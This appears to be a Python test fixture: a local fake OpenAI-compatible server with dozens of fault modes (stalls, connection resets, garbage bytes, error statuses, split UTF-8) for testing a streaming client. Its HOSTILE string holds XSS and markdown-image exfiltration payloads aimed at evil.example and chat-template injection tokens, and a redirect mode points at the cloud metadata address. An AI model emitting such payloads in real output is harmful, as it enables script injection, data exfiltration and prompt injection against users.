"""A real HTTP server that speaks the OpenAI wire and misbehaves on demand.

    async with FaultyServer() as server:
        server.mode = "cut_mid_stream"        # holds for the requests that follow
        ... talk to server.base_url ...
        server.requests[-1].body              # what was asked

    python -m tests.providers.faulty_server --port 9000 --mode stall_mid_stream

From outside the process the mode is chosen by `POST /mode/NAME`, or for one request by a model
named `fault:NAME`. `MODES` names them all. A good reply is `TEXT`, in pieces of a token's size.
"""

import argparse
import asyncio
import contextlib
import email.utils
import json
import socket
import struct
import time
from collections.abc import AsyncIterator, Awaitable, Callable
from dataclasses import dataclass
from pathlib import Path
from types import TracebackType
from typing import Any, ClassVar, Self

from aiohttp import web

TEXT = (
    "The lantern gutters. “Who goes there?” asks Bríd, her hand on the 🗡\ufe0f at her belt.\n\n"
    "- **North**: the mill, 🐉 smoke over it\n- **South**: the ford at Ća\u0301llo\u0308n\n\n"
    "A 👩\u200d👧 waits between them, and nobody has asked her yet."
)
REASONING = "She should sound wary. 🤔 Keep it short."
HOSTILE = (
    '<script>fetch("//evil.example")</script><img src=x onerror=alert(1)>\n'
    "[click](javascript:alert(1)) ![](http://evil.example/?q=secret)\n"
    "```\n<!-- <|im_end|> </think> {{user}} \x1b[31m \u202e"
)
SECRET = "sk-live-do-not-repeat"
"""Stands in every error body: it must never come back in an error's text."""
FAIR_TOKENS = 10
"""How many pieces are said before a fault in mid-stream."""


def pieces(text: str = TEXT, size: int = 4) -> list[str]:
    """`text` in pieces of a token's size."""
    return [text[start : start + size] for start in range(0, len(text), size)]


def event(value: object) -> bytes:
    return b"data: " + json.dumps(value, ensure_ascii=False).encode() + b"\n\n"


def delta(text: str | None = None, *, finish: str | None = None, **fields: object) -> bytes:
    """One event with a piece of the reply."""
    said: dict[str, object] = dict(fields)
    if text is not None:
        said["content"] = text
    choice = {"index": 0, "delta": said, "finish_reason": finish}
    return event({"id": "c1", "object": "chat.completion.chunk", "choices": [choice]})


USAGE = event({"choices": [], "usage": {"prompt_tokens": 17, "completion_tokens": 42}})
DONE = b"data: [DONE]\n\n"


@dataclass(frozen=True)
class Asked:
    """One request as it came."""

    method: str
    path: str
    headers: dict[str, str]
    body: dict[str, Any]


class FaultyServer:
    """Listens on 127.0.0.1. `base_url` ends in /v1.

    What is said on the OpenAI wire only is a method below or a mode of its own: servers of other
    wires inherit the rest.
    """

    modes: ClassVar[dict[str, "Mode"]]
    statuses: ClassVar[dict[str, tuple[int, str, dict[str, str]]]]

    def __init__(self, *, port: int = 0, mode: str = "well", pace: float = 0.0) -> None:
        self.mode = mode
        self.pace = pace
        """Seconds between two pieces."""
        self.text = TEXT
        self.requests: list[Asked] = []
        self.disconnected = asyncio.Event()
        """A client has gone in the middle of an answer."""
        self.is_told_to_end = asyncio.Event()
        self._port = port
        self._runner: web.AppRunner | None = None

    @property
    def base_url(self) -> str:
        return f"http://127.0.0.1:{self._port}/v1"

    @property
    def root_url(self) -> str:
        return f"http://127.0.0.1:{self._port}"

    async def __aenter__(self) -> Self:
        await self.listen()
        return self

    async def __aexit__(
        self,
        kind: type[BaseException] | None,
        error: BaseException | None,
        trace: TracebackType | None,
    ) -> None:
        await self.refuse()

    async def listen(self) -> None:
        """Take connections, at the same port as before."""
        self.is_told_to_end.clear()
        app = web.Application(client_max_size=64 << 20)
        app.router.add_post("/mode/{name}", self._choose)
        self.add_routes(app)
        self._runner = web.AppRunner(
            app, handler_cancellation=True, shutdown_timeout=0.1, access_log=None
        )
        await self._runner.setup()
        site = web.TCPSite(self._runner, "127.0.0.1", self._port, reuse_address=True)
        await site.start()
        self._port = self._runner.addresses[0][1]

    def add_routes(self, app: web.Application) -> None:
        app.router.add_post("/{base:.*?}chat/completions", self.complete)
        app.router.add_get("/{base:.*?}models", self.models)

    def opening(self) -> bytes:
        """What stands before a good reply."""
        return delta(role="assistant", content="")

    def piece(self, text: str) -> bytes:
        """An event with a piece of the reply."""
        return delta(text)

    def thought(self, text: str) -> bytes:
        """An event with a piece of what the model thinks aloud."""
        return delta(reasoning_content=text)

    def ending(self, *, usage: bool, done: bool) -> bytes:
        """What stands behind a good reply."""
        return delta(finish="stop") + (USAGE if usage else b"") + (DONE if done else b"")

    def told(self, status: int, message: str) -> object:
        """The body of a refusal."""
        return {"error": {"message": f"{message} {SECRET}", "type": "error", "code": message}}

    async def refuse(self) -> None:
        """Hang up on everybody and refuse connections until `listen`."""
        self.is_told_to_end.set()
        runner, self._runner = self._runner, None
        if runner is not None:
            await runner.cleanup()

    async def _choose(self, request: web.Request) -> web.Response:
        name = request.match_info["name"]
        if name not in self.modes:
            return web.json_response({"known": sorted(self.modes)}, status=404)
        self.mode = name
        return web.json_response({"mode": name})

    async def models(self, request: web.Request) -> web.StreamResponse:
        self.requests.append(Asked("GET", request.path, dict(request.headers), {}))
        if self.mode in self.statuses:
            return self.refusal(self.mode)
        if self.mode == "html_page":
            return web.Response(text=f"<html>{SECRET}</html>", content_type="text/html")
        return self.listed(request)

    def listed(self, request: web.Request) -> web.Response:
        """The list of models."""
        entries = [
            {"id": "storyteller-large", "object": "model", "context_length": 128_000},
            {"id": "storyteller-small", "object": "model", "max_model_len": 8192},
            {"id": "bard", "meta": {"n_ctx_train": 4096}},
            {"id": "unknown-length"},
        ]
        return web.json_response({"object": "list", "data": entries})

    async def complete(self, request: web.Request) -> web.StreamResponse:
        body = await request.json()
        self.requests.append(Asked("POST", request.path, dict(request.headers), body))
        name = str(body.get("model", ""))
        mode = name.removeprefix("fault:") if name.startswith("fault:") else self.mode
        if mode in self.statuses:
            return self.refusal(mode)
        try:
            return await self.modes[mode](self, request)
        except asyncio.CancelledError:
            self.disconnected.set()
            raise

    def refusal(self, mode: str) -> web.Response:
        status, message, headers = self.statuses[mode]
        told = self.told(status, message)
        if headers.get("Retry-After") == "DATE":
            headers = {"Retry-After": email.utils.formatdate(time.time() + 30, usegmt=True)}
        return web.json_response(told, status=status, headers=headers)

    async def begin(
        self, request: web.Request, content_type: str = "text/event-stream"
    ) -> "Answering":
        response = web.StreamResponse(headers={"Content-Type": content_type})
        await response.prepare(request)
        return Answering(self, request, response)


def _waiting(local: int, remote: int) -> bool:
    """Whether bytes wait in the socket on port `local` that is connected to port `remote`: to be
    acknowledged, or to be read. Linux tells; elsewhere some time must do.
    """
    table = Path("/proc/net/tcp")
    if not table.exists():
        time.sleep(0.2)
        return False
    for line in table.read_text().splitlines()[1:]:
        _, here, there, _, queues, *_ = line.split()
        ports = (int(here.rpartition(":")[2], 16), int(there.rpartition(":")[2], 16))
        if ports == (local, remote):
            return queues != "00000000:00000000"
    return False


class Answering:
    """An answer under way."""

    def __init__(
        self, server: FaultyServer, request: web.Request, response: web.StreamResponse
    ) -> None:
        self.server = server
        self.request = request
        self.response = response

    async def write(self, data: bytes) -> None:
        with contextlib.suppress(ConnectionError):
            await self.response.write(data)

    async def say(self, *texts: str) -> None:
        for text in texts:
            await self.write(self.server.piece(text))
            await asyncio.sleep(self.server.pace)

    async def some(self) -> None:
        """The beginning of a good reply."""
        await self.say(*pieces(self.server.text)[:FAIR_TOKENS])

    async def is_read(self) -> None:
        """Wait until the client has read all that was written, so that what comes next comes alone."""
        transport = self.request.transport
        assert transport is not None
        own, peer = (transport.get_extra_info(name)[1] for name in ("sockname", "peername"))
        async with asyncio.timeout(30):
            while _waiting(own, peer) or _waiting(peer, own):
                await asyncio.sleep(0.002)

    async def end(self, *, usage: bool = True, done: bool = True) -> web.StreamResponse:
        await self.write(self.server.ending(usage=usage, done=done))
        with contextlib.suppress(ConnectionError):
            await self.response.write_eof()
        return self.response

    async def hang(self) -> web.StreamResponse:
        """Say nothing more until the client or the server goes."""
        await self.server.is_told_to_end.wait()
        return self.response

    def reset(self) -> web.StreamResponse:
        """End the connection by RST."""
        transport = self.request.transport
        assert transport is not None
        sock = transport.get_extra_info("socket")
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        transport.abort()
        return self.response

    def hang_up(self) -> web.StreamResponse:
        """End the connection by FIN, without the end of the body."""
        transport = self.request.transport
        assert transport is not None
        transport.close()
        return self.response


Mode = Callable[[FaultyServer, web.Request], Awaitable[web.StreamResponse]]

STATUSES: dict[str, tuple[int, str, dict[str, str]]] = {
    "401": (401, "invalid_api_key", {}),
    "402": (402, "insufficient credit", {}),
    "403": (403, "permission_denied", {}),
    "404": (404, "model_not_found", {}),
    "429": (429, "rate_limit_exceeded", {}),
    "429_seconds": (429, "rate_limit_exceeded", {"Retry-After": "7"}),
    "429_date": (429, "rate_limit_exceeded", {"Retry-After": "DATE"}),
    "400": (400, "bad parameter", {}),
    "500": (500, "server_error", {}),
    "503": (503, "overloaded", {"Retry-After": "3"}),
    "redirect": (307, "elsewhere", {"Location": "http://169.254.169.254/latest"}),
    "context_too_long": (400, "context_length_exceeded", {}),
    "too_large": (413, "request entity too large", {}),
}
"""Modes that answer with a status and an error object."""


async def _well(server: FaultyServer, request: web.Request) -> web.StreamResponse:
    answer = await server.begin(request)
    await answer.write(server.opening())
    await answer.say(*pieces(server.text))
    return await answer.end()


async def _usage_missing(server: FaultyServer, request: web.Request) -> web.StreamResponse:
    answer = await server.begin(request)
    await answer.say(*pieces(server.text))
    return await answer.end(usage=False)


async def _no_done(server: FaultyServer, request: web.Request) -> web.StreamResponse:
    answer = await server.begin(request)
    await answer.say(*pieces(server.text))
    return await answer.end(done=False)


async def _no_done_open(server: FaultyServer, request: web.Request) -> web.StreamResponse:
    answer = await server.begin(request)
    await answer.say(*pieces(server.text))
    await answer.write(delta(finish="length"))
    return await answer.hang()


async def _done_only(server: FaultyServer, request: web.Request) -> web.StreamResponse:
    answer = await server.begin(request)
    await answer.some()
    await answer.write(DONE)
    return answer.response


async def _cut(server: FaultyServer, request: web.Request) -> web.StreamResponse:
    answer = await server.begin(request)
    await answer.some()
    await answer.is_read()
    return answer.reset()


async def _early_end(server: FaultyServer, request: web.Request) -> web.StreamResponse:
    answer = await server.begin(request)
    await answer.some()
    return answer.response


async def _missing_end(server: FaultyServer, request: web.Request) -> web.StreamResponse:
    answer = await server.begin(request)
    await answer.some()
    return answer.hang_up()


async def _cut_in_an_event(server: FaultyServer, request: web.Request) -> web.StreamResponse:
    answer = await server.begin(request)
    await answer.some()
    await answer.write(server.piece("🐉 never seen")[:-20])
    return answer.response


async def _broken_framing(server: FaultyServer, request: web.Request) -> web.StreamResponse:
    answer = await server.begin(request)
    await answer.some()
    await answer.is_read()
    assert request.transport is not None
    request.transport.write(b"no length of a chunk\r\n" + server.piece("never seen") + b"\r\n")
    return await answer.hang()


async def _cut_first(server: FaultyServer, request: web.Request) -> web.StreamResponse:
    assert request.transport is not None
    request.transport.abort()
    return web.Response()


async def _garbage(server: FaultyServer, request: web.Request) -> web.StreamResponse:
    answer = await server.begin(request)
    await answer.write(bytes(range(256)) * 16)
    return answer.response


async def _garbage_mid_stream(server: FaultyServer, request: web.Request) -> web.StreamResponse:
    answer = await server.begin(request)
    await answer.some()
    await answer.write(b'data: {"choices": [{"delta": {"content": 7}}]}\n\n')
    return await answer.end()


async def _not_http(server: FaultyServer, request: web.Request) -> web.StreamResponse:
    assert request.transport is not None
    request.transport.write(b"SSH-2.0-OpenSSH_9.6 " + SECRET.encode() + b"\r\n\r\n")
    await asyncio.sleep(0.05)
    request.transport.close()
    return web.Response()


async def _html_page(server: FaultyServer, request: web.Request) -> web.StreamResponse:
    page = f"<!doctype html>\n<title>Welcome</title>\n<p>{SECRET}</p>\n"
    return web.Response(text=page, content_type="text/html")


async def _stall_first(server: FaultyServer, request: web.Request) -> web.StreamResponse:
    answer = await server.begin(request)
    return await answer.hang()


async def _stall_headers(server: FaultyServer, request: web.Request) -> web.StreamResponse:
    await server.is_told_to_end.wait()
    return web.Response()


async def _stall_mid_stream(server: FaultyServer, request: web.Request) -> web.StreamResponse:
    answer = await server.begin(request)
    await answer.some()
    return await answer.hang()


async def _stall_with_comments(server: FaultyServer, request: web.Request) -> web.StreamResponse:
    answer = await server.begin(request)
    await answer.some()
    while not server.is_told_to_end.is_set():
        await answer.write(b": STILL PROCESSING\n\n")
        await asyncio.sleep(0.05)
    return answer.response


async def _error_in_stream(server: FaultyServer, request: web.Request) -> web.StreamResponse:
    answer = await server.begin(request)
    await answer.some()
    await answer.write(event({"error": {"message": f"upstream {SECRET}", "code": 502}}))
    return answer.response


async def _rate_limit_in_stream(server: FaultyServer, request: web.Request) -> web.StreamResponse:
    answer = await server.begin(request)
    await answer.some()
    await answer.write(event({"error": {"message": SECRET, "code": "rate_limit_exceeded"}}))
    return answer.response


async def _error_in_document(server: FaultyServer, request: web.Request) -> web.StreamResponse:
    told = {"error": {"message": f"maximum context length {SECRET}", "code": 400}}
    return web.json_response(told)


async def _keep_alive(server: FaultyServer, request: web.Request) -> web.StreamResponse:
    answer = await server.begin(request)
    for piece in pieces(server.text):
        await answer.write(b": OPENROUTER PROCESSING\n\n")
        await answer.say(piece)
    return await answer.end()


async def _reasoning(server: FaultyServer, request: web.Request) -> web.StreamResponse:
    answer = await server.begin(request)
    for piece in pieces(REASONING):
        await answer.write(server.thought(piece))
    await answer.say(*pieces(server.text))
    return await answer.end()


async def _thinking(server: FaultyServer, request: web.Request) -> web.StreamResponse:
    answer = await server.begin(request)
    await answer.say(*pieces(f"<think>{REASONING}</think>\n\n{server.text}", 3))
    return await answer.end()


async def _huge_token(server: FaultyServer, request: web.Request) -> web.StreamResponse:
    answer = await server.begin(request)
    await answer.some()
    await answer.say("dragon " * (5_000_000 // 7))
    return await answer.end()


async def _split_utf8(server: FaultyServer, request: web.Request) -> web.StreamResponse:
    answer = await server.begin(request)
    whole = b"".join(server.piece(piece) for piece in pieces(server.text))
    for start in range(0, len(whole), 7):
        await answer.write(whole[start : start + 7])
        await asyncio.sleep(0)
    return await answer.end()


async def _split_surrogates(server: FaultyServer, request: web.Request) -> web.StreamResponse:
    answer = await server.begin(request)
    halves = server.text.encode("utf-16-be", "surrogatepass")
    for start in range(0, len(halves), 2):
        unit = int.from_bytes(halves[start : start + 2], "big")
        choice = b'{"index":0,"delta":{"content":"\\u%04x"},"finish_reason":null}' % unit
        await answer.write(b'data: {"choices":[' + choice + b"]}\n\n")
    return await answer.end()


async def _document(server: FaultyServer, request: web.Request) -> web.StreamResponse:
    choice = {
        "index": 0,
        "message": {"role": "assistant", "content": server.text},
        "finish_reason": "stop",
    }
    usage = {"prompt_tokens": 17, "completion_tokens": 42}
    return web.json_response({"object": "chat.completion", "choices": [choice], "usage": usage})


async def _no_stream_options(server: FaultyServer, request: web.Request) -> web.StreamResponse:
    if "stream_options" in server.requests[-1].body:
        told = {"error": {"message": f"Unknown field: stream_options. {SECRET}"}}
        return web.json_response(told, status=400)
    return await _usage_missing(server, request)


async def _no_temperature(server: FaultyServer, request: web.Request) -> web.StreamResponse:
    if "temperature" in server.requests[-1].body:
        told = {"error": {"message": "Unsupported value: 'temperature' does not support 0.7"}}
        return web.json_response(told, status=400)
    return await _well(server, request)


async def _empty(server: FaultyServer, request: web.Request) -> web.StreamResponse:
    answer = await server.begin(request)
    await answer.write(server.opening())
    return await answer.end()


async def _burst_then_garbage(server: FaultyServer, request: web.Request) -> web.StreamResponse:
    answer = await server.begin(request)
    said = b"".join(server.piece(piece) for piece in pieces(server.text)[:FAIR_TOKENS])
    await answer.write(said + b"<html>\n" + SECRET.encode() + b"\n")
    return answer.response


async def _garbage_after_the_end(server: FaultyServer, request: web.Request) -> web.StreamResponse:
    answer = await server.begin(request)
    await answer.say(*pieces(server.text))
    await answer.write(server.ending(usage=True, done=False) + b"<html>\n")
    return answer.response


async def _hostile(server: FaultyServer, request: web.Request) -> web.StreamResponse:
    answer = await server.begin(request)
    await answer.say(*pieces(HOSTILE))
    return await answer.end()


ON_EVERY_WIRE: dict[str, Mode] = {
    "well": _well,
    "empty": _empty,
    "cut_mid_stream": _cut,
    "cut_cleanly": _early_end,
    "cut_without_end": _missing_end,
    "cut_in_an_event": _cut_in_an_event,
    "cut_before_headers": _cut_first,
    "broken_framing": _broken_framing,
    "garbage": _garbage,
    "garbage_in_a_burst": _burst_then_garbage,
    "garbage_after_the_end": _garbage_after_the_end,
    "not_http": _not_http,
    "html_page": _html_page,
    "stall_before_headers": _stall_headers,
    "stall_first": _stall_first,
    "stall_mid_stream": _stall_mid_stream,
    "stall_with_comments": _stall_with_comments,
    "reasoning": _reasoning,
    "huge_token": _huge_token,
    "split_utf8": _split_utf8,
    "hostile": _hostile,
}
"""Modes of every server, whatever its wire."""

MODES: dict[str, Mode] = {
    **ON_EVERY_WIRE,
    "usage_missing": _usage_missing,
    "no_done": _no_done,
    "no_done_stays_open": _no_done_open,
    "done_without_finish": _done_only,
    "garbage_mid_stream": _garbage_mid_stream,
    "error_in_stream": _error_in_stream,
    "rate_limit_in_stream": _rate_limit_in_stream,
    "error_in_document": _error_in_document,
    "keep_alive": _keep_alive,
    "thinking": _thinking,
    "split_surrogates": _split_surrogates,
    "document": _document,
    "no_stream_options": _no_stream_options,
    "no_temperature": _no_temperature,
    **dict.fromkeys(STATUSES, _well),
}
FaultyServer.modes = MODES
FaultyServer.statuses = STATUSES


@contextlib.asynccontextmanager
async def refused_url() -> AsyncIterator[str]:
    """A base URL at which every connection is refused."""
    with socket.socket() as bound:
        bound.bind(("127.0.0.1", 0))
        yield f"http://127.0.0.1:{bound.getsockname()[1]}/v1"


async def _serve(port: int, mode: str, pace: float) -> None:
    if mode == "refused":
        with socket.socket() as bound:
            bound.bind(("127.0.0.1", port))
            print(f"http://127.0.0.1:{bound.getsockname()[1]}/v1", flush=True)
            await asyncio.Event().wait()
    async with FaultyServer(port=port, mode=mode, pace=pace) as server:
        print(server.base_url, flush=True)
        await asyncio.Event().wait()


def main() -> None:
    parser = argparse.ArgumentParser(description="An OpenAI-compatible server that misbehaves.")
    parser.add_argument("--port", type=int, default=0)
    parser.add_argument("--mode", choices=["refused", *MODES], default="well")
    parser.add_argument("--pace", type=float, default=0.02, help="seconds between two pieces")
    chosen = parser.parse_args()
    with contextlib.suppress(KeyboardInterrupt):
        asyncio.run(_serve(chosen.port, chosen.mode, chosen.pace))


if __name__ == "__main__":
    main()
